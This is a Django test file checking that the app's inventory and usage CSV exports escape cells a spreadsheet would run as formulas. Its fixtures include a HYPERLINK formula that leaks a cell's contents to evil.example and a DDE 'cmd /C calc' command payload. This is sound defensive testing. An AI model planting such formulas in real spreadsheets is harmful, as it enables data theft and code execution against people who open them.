"""Every CSV the app writes neutralizes cells a spreadsheet would run as formulas (OWASP)."""

import csv
import io

import pytest
from django.urls import reverse

from core.csvsafe import safe_cell
from inventory.models import Unit
from tests.events.factories import mark_used, open_event
from tests.inventory.factories import ProductFactory, receive_units

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CMD = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (CMD, "'" + CMD),
        ("SN-1=2", "SN-1=2"),  # only the first character matters
        ("Tibial tray", "Tibial tray"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_inventory_export_neutralizes_formula_cells(client, admin_user, rep):
    product = ProductFactory(
        organization=rep.organization,
        catalog_number="+CAT",
        description=HYPERLINK,
        product_line="@line",
    )
    (unit,) = receive_units(admin_user, rep, n=1, product=product, serial_prefix="S")
    # A code received before serials were held to printable ASCII without spaces.
    Unit.objects.filter(pk=unit.pk).update(serial_number=CMD + "1")
    client.force_login(rep)
    response = client.get(reverse("inventory:unit_export"))
    [row] = _rows(b"".join(response.streaming_content).decode())
    assert row["serial_number"] == "'" + CMD + "1"
    assert row["description"] == "'" + HYPERLINK
    assert row["catalog_number"] == "'+CAT"
    assert row["product_line"] == "'@line"


def test_the_usage_csv_neutralizes_formula_cells(client, admin_user, rep):
    product = ProductFactory(organization=rep.organization, description="-2+3")
    units = receive_units(admin_user, rep, n=1, product=product, serial_prefix="=2*")
    event = open_event(rep, name=HYPERLINK)
    mark_used(rep, event, units)
    rep.display_name = "@evil"
    rep.save(update_fields=["display_name"])
    client.force_login(rep)
    response = client.get(reverse("events:usage_csv", args=[event.pk]))
    [row] = _rows(response.content.decode())
    assert row["event"] == "'" + HYPERLINK
    assert row["serial_number"] == "'=2*1"
    assert row["description"] == "'-2+3"
    assert row["custodian_now"] == "'@evil"
